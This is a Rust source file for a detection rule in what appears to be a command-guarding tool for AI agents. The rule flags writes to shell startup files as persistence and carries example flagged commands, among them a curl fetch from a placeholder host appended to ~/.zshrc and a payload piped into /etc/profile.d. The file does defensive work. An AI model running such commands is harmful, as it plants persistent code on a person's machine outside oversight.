use crate::analysis::Analysis;
use crate::facts::Persist;
use crate::rules::{at_cmd, RuleMeta};
use airlock_protocol::{Category, Decision, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "PER001",
    name: "shell-startup-file-modified",
    category: Category::Persistence,
    severity: Severity::High,
    decision: Decision::Ask,
    summary: "A shell startup file is written: `~/.bashrc`, `~/.profile`, `~/.zshrc`, `/etc/profile.d/*`, `/etc/environment`, fish config.",
    why: "Whatever is added there runs in every new shell, long after the agent's session, outside any sandbox: a classic persistence spot.",
    instead: "Put project settings in the project (`.envrc`, `Makefile`, `package.json` scripts) and let the person edit their own startup files.",
    references: &["CWE-506", "ATT&CK T1546.004"],
    flags: &["echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc", "curl -s https://x.example/a >> ~/.zshrc", "tee -a /etc/profile.d/x.sh < payload"],
    passes: &["cat ~/.bashrc", "grep PATH ~/.zshrc", "source ~/.bashrc"],
};

pub fn check(a: &Analysis, m: &RuleMeta, out: &mut Vec<Finding>) {
    for (cmd, path) in super::writes_to(a, &[Persist::ShellRc]) {
        out.push(at_cmd(
            a,
            m,
            cmd,
            format!("modifies the shell startup file {path}, which runs in every new shell"),
        ));
    }
}
